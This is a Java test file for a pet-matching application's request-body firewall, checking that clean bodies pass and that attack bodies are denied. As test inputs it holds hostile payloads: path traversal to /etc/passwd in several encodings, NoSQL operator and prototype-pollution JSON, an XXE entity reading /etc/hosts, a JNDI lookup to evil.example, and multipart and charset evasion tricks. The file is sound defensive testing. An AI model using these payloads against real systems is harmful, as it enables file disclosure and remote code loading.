package com.petmatch.security.firewall;

import static org.assertj.core.api.Assertions.assertThat;

import com.petmatch.security.firewall.BodyLimits.Coded;
import com.petmatch.security.firewall.BodyLimits.Longer;
import com.petmatch.security.firewall.FirewallReport.Answer;
import com.petmatch.security.request.RouteId;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@Tag("row-50")
class BodyInspectionTest {

    private static final String ATTACK = "../../../etc/passwd";
    private static final String MULTIPART = "multipart/form-data; boundary=abc";
    private static final RouteId ROUTE = new RouteId("POST", "/pets");
    private static final Firewall FIREWALL = Firewall.builder().build();

    private static FirewallReport report(String type, byte[] bytes) {
        return FIREWALL.inspectBody(new BodyBytes(bytes, type, "", ROUTE));
    }

    private static FirewallReport report(String type, String text) {
        return report(type, text.getBytes(StandardCharsets.UTF_8));
    }

    private static List<String> ids(FirewallReport report) {
        return report.findings().stream().map(finding -> finding.rule().id()).toList();
    }

    private static String part(String fields, String content) {
        return "--abc\r\n" + fields + "\r\n\r\n" + content + "\r\n--abc--\r\n";
    }

    private static final String NAMED = "Content-Disposition: form-data; name=\"a\"";

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "application/json|{\"name\":\"L'Oréal\",\"tags\":[\"a\",1,true,null],\"x\":{\"y\":\"5 < 6\"}}",
                "application/vnd.pet+json|[]",
                "application/x-www-form-urlencoded|name=Rex+%26+Bella&text=50%25+off&a",
                "application/xml|<?xml version=\"1.0\" encoding=\"UTF-8\"?><p a=\"1\"><n>O'Brien &amp; Co</n><!-- x --></p>",
                "text/plain|Rex; then walk & play",
                "application/octet-stream|Rex",
                "|Rex"
            })
    void honestBodiesAreClean(String type, String text) {
        assertThat(report(type == null ? "" : type, text).findings()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "application/json|{\"a\":[{\"b\":\"../../../etc/passwd\"}]}",
                "application/json|{\"a\":\"\\u002e\\u002e/\\u002e\\u002e/\\u002e./etc/passwd\"}",
                "application/json|{\"$ne\":1}",
                "application/json|{\"__proto__\":{}}",
                "application/json|{\"a\":\"Li4vLi4vLi4vZXRjL3Bhc3N3ZA==\"}",
                "application/x-www-form-urlencoded|a=..%2F..%2F..%2Fetc%2Fpasswd",
                "application/x-www-form-urlencoded|a%5B%24ne%5D=1",
                "application/x-www-form-urlencoded|a=%c0%ae%c0%ae",
                "application/xml|<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><a>&x;</a>",
                "text/xml|<a><b>../../../etc/passwd</b></a>",
                "application/soap+xml|<a b=\"../../../etc/passwd\"/>",
                "application/xml|<?xml version=\"1.0\" encoding=\"UTF-7\"?><a/>",
                "text/plain|../../../etc/passwd",
                "text/plain|{\"a\":{\"$gt\":\"\"}}",
                "image/png|../../../etc/passwd",
                "|${jndi:ldap://evil.example/a}"
            })
    void attacksAreFoundInBodiesOfEveryType(String type, String text) {
        assertThat(report(type == null ? "" : type, text).answer()).isEqualTo(Answer.DENY);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"{", "{\"a\":1}x", "{\"a\":1}{}", "{a:1}", "[1,]", "nul", "{\"a\":'b'}", "\"", "{\"a\" 1}", "[}"
            })
    void whatIsNotOneJsonTextIsRefused(String text) {
        assertThat(report("application/json", text).answer()).isEqualTo(Answer.DENY);
    }

    @Test
    void jsonMayNestTo64AndNotDeeper() {
        assertThat(report("application/json", "[".repeat(64) + "]".repeat(64)).isPassed())
                .isTrue();
        assertThat(report("application/json", "[".repeat(65) + "]".repeat(65)).isPassed())
                .isFalse();
    }

    @Test
    void aMemberTwiceIsANotice() {
        FirewallReport report = report("application/json", "{\"a\":{\"b\":1,\"b\":2},\"c\":{\"b\":1}}");

        assertThat(ids(report)).containsExactly("protocol.json-duplicate");
        assertThat(report.points()).isEqualTo(2);
        assertThat(report.isPassed()).isTrue();
    }

    @Test
    void membersOfJsonAreTypedByTheirPath() {
        FieldPlan plan = FieldPlan.none()
                .with("POST /pets", "owner.age", FieldType.NUMBER)
                .with("POST /pets", "ids", FieldType.ID);
        Firewall typed = FIREWALL.with(FirewallSettings.standard().with(plan));

        assertThat(typed.inspectBody(json("{\"owner\":{\"age\":5},\"ids\":[\"a\",2]}"))
                        .isPassed())
                .isTrue();
        assertThat(ids(typed.inspectBody(json("{\"owner\":{\"age\":\"5a\"}}")))).containsExactly("field.type");
        assertThat(ids(typed.inspectBody(json("{\"ids\":[\"a\",\"b c\"]}")))).containsExactly("field.type");
        assertThat(ids(typed.inspectBody(json("{\"owner\":{\"age\":{\"a\":1}}}"))))
                .contains("field.type");
        assertThat(typed.inspectBody(json("{\"age\":\"5a\"}")).isPassed()).isTrue();
    }

    private static BodyBytes json(String text) {
        return new BodyBytes(text.getBytes(StandardCharsets.UTF_8), "application/json", "", ROUTE);
    }

    @Test
    void textPartsAndFileNamesAreRead() {
        assertThat(report(MULTIPART, part(NAMED, "Rex & Bella")).findings()).isEmpty();
        assertThat(report(MULTIPART, part(NAMED + "; filename=\"rex.jpg\"\r\nContent-Type: image/jpeg", "\0\1"))
                        .findings())
                .isEmpty();
        assertThat(report(MULTIPART, part(NAMED, ATTACK)).isPassed()).isFalse();
        assertThat(report(MULTIPART, part(NAMED + "; filename=\"../../../a.jpg\"", "x"))
                        .isPassed())
                .isFalse();
        assertThat(ids(report(MULTIPART, part(NAMED + "; filename=\"a.php.jpg\"", "x"))))
                .contains("protocol.executable-name");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Content-Disposition: form-data",
                "Content-Disposition: attachment; name=\"a\"",
                "Content-Disposition: form-data; name=\"a\"; name=\"b\"",
                "Content-Disposition: form-data; name=\"a",
                "Content-Disposition: form-data; name=\"a\"; filename*=utf-8''a.jpg",
                "Content-Disposition: form-data; name=\"a\"\r\nContent-Disposition: form-data; name=\"b\"",
                "Content-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: base64",
                "Content-Disposition: form-data; name=\"a\"\r\n folded: x",
                "Content-Disposition: form-data; name=\"a\"\r\nno colon",
                "Content-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=utf-7"
            })
    void partsThatServersReadDifferentlyAreRefused(String fields) {
        assertThat(report(MULTIPART, part(fields, "x")).answer()).isEqualTo(Answer.DENY);
    }

    @Test
    void boundariesThatServersReadDifferentlyAreRefused() {
        String sound = part(NAMED, "x");

        assertThat(report(MULTIPART, sound).isPassed()).isTrue();
        assertThat(report("multipart/form-data", sound).isPassed()).isFalse();
        assertThat(report("multipart/form-data; boundary=abc; boundary=d", sound)
                        .isPassed())
                .isFalse();
        assertThat(report("multipart/form-data; boundary=\"a b\"", sound).isPassed())
                .isFalse();
        assertThat(report("multipart/form-data; boundary=other", sound).isPassed())
                .isFalse();
        assertThat(report(MULTIPART, "preamble\r\n" + sound).isPassed()).isFalse();
        assertThat(report(MULTIPART, sound + "epilogue").isPassed()).isFalse();
        assertThat(report(MULTIPART, sound.replace("--abc--", "")).isPassed()).isFalse();
        assertThat(report(MULTIPART, sound.replace("\r\n", "\n")).isPassed()).isFalse();
        assertThat(report(MULTIPART, "").isPassed()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "text/plain; charset=utf-7",
                "text/plain; charset=ibm037",
                "application/json; charset=utf-32",
                "text",
                "text/",
                "a b/c",
                "application/json; charset=utf-8; charset=utf-16",
                "text/plain; charset=\"utf-8"
            })
    void typesThatHideOrConfuseAreRefused(String type) {
        assertThat(report(type, "{}").answer()).isEqualTo(Answer.DENY);
    }

    @Test
    void otherCharactersSetsAreReadAsTheServerWould() {
        assertThat(report("text/plain; charset=utf-16", ATTACK.getBytes(StandardCharsets.UTF_16))
                        .isPassed())
                .isFalse();
        assertThat(report("application/xml", ("<a>" + ATTACK + "</a>").getBytes(StandardCharsets.UTF_16))
                        .isPassed())
                .isFalse();
        byte[] latin = "a=caf\u00e9".getBytes(StandardCharsets.ISO_8859_1);
        assertThat(report("text/plain; charset=iso-8859-1", latin).findings()).isEmpty();
        byte[] overlong = {'.', '.', (byte) 0xc0, (byte) 0xaf};
        assertThat(ids(report("text/plain", overlong))).contains("encoding.overlong");
    }

    @Test
    void longerBodiesAreRefusedUnlessOnlyTheirPrefixIsAskedFor() {
        byte[] padded = ("a".repeat(128 << 10) + ATTACK).getBytes(StandardCharsets.UTF_8);
        Firewall prefix = Firewall.builder()
                .bodies(new BodyLimits(128 << 10, Longer.PREFIX_ONLY, Coded.REFUSE))
                .build();
        Firewall wide = Firewall.builder()
                .bodies(new BodyLimits(1 << 20, Longer.REFUSE, Coded.REFUSE))
                .build();
        BodyBytes body = new BodyBytes(padded, "text/plain", "", ROUTE);

        assertThat(FIREWALL.inspectBody(body).answer()).isEqualTo(Answer.TOO_LARGE);
        assertThat(prefix.inspectBody(body).isPassed()).isTrue();
        assertThat(ids(prefix.inspectBody(body))).containsExactly("protocol.prefix-only");
        assertThat(wide.inspectBody(body).answer()).isEqualTo(Answer.DENY);
    }

    @Test
    void codedBodiesAreRefusedOrInflatedWithinRatioAndCap() throws IOException {
        Firewall inflating = Firewall.builder()
                .bodies(new BodyLimits(128 << 10, Longer.REFUSE, Coded.INFLATE))
                .build();
        BodyBytes attack = coded(ATTACK, "gzip");

        assertThat(FIREWALL.inspectBody(attack).answer()).isEqualTo(Answer.UNSUPPORTED_CODING);
        assertThat(inflating.inspectBody(attack).answer()).isEqualTo(Answer.DENY);
        assertThat(inflating.inspectBody(coded("Rex", "gzip")).isPassed()).isTrue();
        assertThat(inflating.inspectBody(coded("a".repeat(4 << 20), "gzip")).answer())
                .isEqualTo(Answer.TOO_LARGE);
        assertThat(inflating.inspectBody(coded("a".repeat(100 << 10), "gzip")).answer())
                .isEqualTo(Answer.TOO_LARGE);
        assertThat(inflating.inspectBody(coded("Rex", "br")).answer()).isEqualTo(Answer.UNSUPPORTED_CODING);
        assertThat(inflating.inspectBody(coded("Rex", "gzip, gzip")).answer()).isEqualTo(Answer.UNSUPPORTED_CODING);
        assertThat(inflating
                        .inspectBody(new BodyBytes(new byte[] {1, 2}, "text/plain", "gzip", ROUTE))
                        .answer())
                .isEqualTo(Answer.UNSUPPORTED_CODING);
    }

    private static BodyBytes coded(String text, String coding) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
            gzip.write(text.getBytes(StandardCharsets.UTF_8));
        }
        return new BodyBytes(bytes.toByteArray(), "text/plain", coding, ROUTE);
    }

    @Test
    void noNumberOfFieldsHidesTheLast() {
        assertThat(report("application/x-www-form-urlencoded", "a=1&".repeat(5_000) + "b=" + ATTACK)
                        .isPassed())
                .isFalse();
        assertThat(report(MULTIPART, ("--abc\r\n" + NAMED + "\r\n\r\n1\r\n").repeat(1_100) + "--abc--")
                        .isPassed())
                .isFalse();
    }

    @Test
    void pointsOfTheHeadCountOn() {
        String body = "{\"a\":1,\"a\":2}";
        FirewallReport head = new FirewallReport(List.of(), 3, Answer.PASS);

        assertThat(FIREWALL.inspectBody(json(body)).isPassed()).isTrue();
        assertThat(FIREWALL.inspectBody(json(body), head).answer()).isEqualTo(Answer.DENY);
    }

    @Property(tries = 500)
    void neverThrows(@ForAll String text, @ForAll byte[] bytes) {
        for (String type : List.of("application/json", "application/xml", MULTIPART, "text/plain", "", text)) {
            assertThat(report(type, text)).isNotNull();
            assertThat(report(type, bytes)).isNotNull();
        }
    }
}
